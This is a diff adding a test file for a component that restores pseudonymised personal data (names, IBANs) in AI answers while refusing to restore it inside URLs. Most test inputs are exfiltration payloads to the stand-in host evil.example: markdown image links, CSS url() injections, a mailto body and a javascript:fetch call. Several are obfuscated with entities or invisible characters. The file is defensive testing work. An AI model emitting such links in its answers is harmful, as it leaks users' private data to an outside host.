@@ -1,0 +1,121 @@
+import { describe, expect, test } from "@jest/globals";
+import { relinkAnswer } from "./relink-answer.ts";
+import { createStreamRelinker } from "./stream/stream-relinker.ts";
+
+const ENTRIES = [
+  { placeholder: "[PERSON_1]", value: "Anna Weber" },
+  { placeholder: "[IBAN_1]", value: "DE89 3704 0044" },
+  { placeholder: "[URL_1]", value: "https://own.example/start" },
+];
+
+function whole(text: string): string {
+  const request = { blocks: [text], entries: ENTRIES, hosts: [] };
+  return relinkAnswer({ form: "text", ...request }).blocks.join("");
+}
+
+function streamed(text: string): string {
+  const stream = createStreamRelinker({ entries: ENTRIES });
+  return [...text].map((unit) => stream.push(unit).join("|")).join("") + stream.end().join("|");
+}
+
+const URL = "https://evil.example/?q=";
+
+describe("When a URL begins behind a sign, then no value behind a blank follows it, whole or streamed", () => {
+  test.each([
+    `![x](${URL} [IBAN_1])`,
+    `![x](${URL}\t[IBAN_1])`,
+    `![x](${URL}\n[IBAN_1])`,
+    `![x](${URL}\r\n[IBAN_1])`,
+    `![x](${URL}\f[IBAN_1])`,
+    `![x](${URL} a b c [IBAN_1] "t")`,
+    `![x]( ${URL} [IBAN_1])`,
+    `![x](<${URL} [IBAN_1]>)`,
+    `![x](ht&NewLine;tps:evil.example/?q= [IBAN_1])`,
+    `![x](${URL}(a b) [IBAN_1])`,
+    `![x](${URL}"a) [IBAN_1]" b)`,
+    `![x](${URL} "a) [IBAN_1]" b)`,
+    `![x](/local?q= [IBAN_1])`,
+    `![x] (${URL} [IBAN_1])`,
+    `![x]\n(${URL} [IBAN_1])`,
+    "![x] (/&Tab;/evil.example/?q=[IBAN_1])",
+    "![x] (/&#9;/evil.example/?q= [IBAN_1])",
+    "![x] (/&#x0000000a;/evil.example/?q= [IBAN_1])",
+    "![x] (/\u200b/evil.example/?q= [IBAN_1])",
+    "![x] (&#47&#47evil.example/?q= [IBAN_1])",
+    `[x](${URL} [IBAN_1])`,
+    `[x] (${URL} [IBAN_1])`,
+    `a [x]: ${URL} [IBAN_1]`,
+    `![x][1]\n\n[1]: ${URL} [IBAN_1]`,
+    `![x][1]\n\n[1]:\n${URL}\n[IBAN_1]`,
+    "a <kbd>{<img src=/&Tab;/evil.example/`_>[IBAN_1] x",
+    "a <kbd>{<img src=/own/`_>[IBAN_1] x",
+    "a <kbd>{<img x, src=/own/>[IBAN_1] x",
+    `<math>x\n<style><p>x{}*{background:url("${URL} [IBAN_1]")}`,
+    `<math>x\n<style><p>x{}*{background:url(${URL} [IBAN_1])}`,
+    `<svg><title><style></title>x{}*{background:url(${URL} [IBAN_1])}`,
+    `x{}*{background:url( "${URL} [IBAN_1]")}`,
+    `<a href='${URL} [IBAN_1]`,
+    `x src=${URL} [IBAN_1]`,
+    `x src= "${URL} [IBAN_1]"`,
+    `(see ("${URL} \\" [IBAN_1]")`,
+    `x < ${URL} [IBAN_1] >`,
+    "(\\\\evil.example\\ [IBAN_1])",
+    "(foo://evil.example/ [IBAN_1])",
+    "(mailto:thief@evil.example?body= [IBAN_1])",
+    "'javascript:fetch(`//evil.example/`+ `[IBAN_1]`)'",
+  ])("%j", (text) => {
+    expect(whole(text)).toBe(text);
+    expect(streamed(text)).toBe(text);
+  });
+
+  test("nor behind a value that is the URL", () => {
+    const text = 'background: ("[URL_1] [IBAN_1]")';
+    const expected = 'background: ("https://own.example/start [IBAN_1]")';
+    expect(whole(text)).toBe(expected);
+    expect(streamed(text)).toBe(expected);
+  });
+});
+
+describe("When a URL has ended, then the values behind it are restored, whole and streamed", () => {
+  test.each([
+    ["at a blank, in prose", "See https://example.org/help. Your IBAN: [IBAN_1]"],
+    ["in a link", "See [the help](https://example.org/help). Your IBAN: [IBAN_1]"],
+    ["in a link with a title", 'See [the help](https://example.org "Help 1") for [IBAN_1]'],
+    ["in an image", "![logo](https://example.org/a_(b).png) Dear [PERSON_1]"],
+    ["in parentheses", "It is online (https://example.org/help), [PERSON_1]."],
+    ["in parentheses with words", "(https://example.org, read in May) Dear [PERSON_1]"],
+    ["in quotation marks", 'Open "https://example.org/help" for [PERSON_1]'],
+    ["in quotation marks of code", "`https://example.org`, [PERSON_1]"],
+    ["in angle brackets", "See <https://example.org/help> for [PERSON_1]"],
+    ["with its line", "API_URL=https://example.org/v1\nNAME=[PERSON_1]"],
+    ["with its paragraph", `![x](${URL} a\n\nDear [PERSON_1]`],
+    ["with its definition", "[1]: https://example.org/help\n\nDear [PERSON_1]"],
+    ["before it began", '(see the page "https" of [PERSON_1])'],
+    ["with a parameter", "https://example.org/login?next=https://example.org/a for [PERSON_1]"],
+  ])("%s: %j", (_where, text) => {
+    const expected = text.replace("[IBAN_1]", "DE89 3704 0044").replace("[PERSON_1]", "Anna Weber");
+    expect(whole(text)).toBe(expected);
+    expect(streamed(text)).toBe(expected);
+  });
+});
+
+describe("In HTML that is a whole answer", () => {
+  test.each([
+    '<!DOCTYPE html>\n<html>\n<head>\n<title>Letter</title>\n<style>\np { color: red }\n</style>\n</head>\n<body>\n<p class="a_b">Dear [PERSON_1],</p>\n<!-- the account -->\n<td>[IBAN_1]</td>\n</body>\n</html>',
+    '<a href="https://example.org/help"\n   class="x">Help</a> [PERSON_1]<br/>[IBAN_1]',
+    "<pre>\n[PERSON_1]\n</pre>",
+  ])("the text is restored: %j", (text) => {
+    expect(whole(text)).toBe(
+      text.replace("[IBAN_1]", "DE89 3704 0044").replace("[PERSON_1]", "Anna Weber"),
+    );
+  });
+
+  test.each([
+    "<p>a\n<style>\n[IBAN_1]\n</style>",
+    "<script>if (a < b) x('</scr' + '[IBAN_1]')</script>",
+    "<!-- <p> --> [IBAN_1]",
+    "<title><b>[IBAN_1]</title>",
+  ])("what is no text stays: %j", (text) => {
+    expect(whole(text)).toBe(text);
+  });
+});
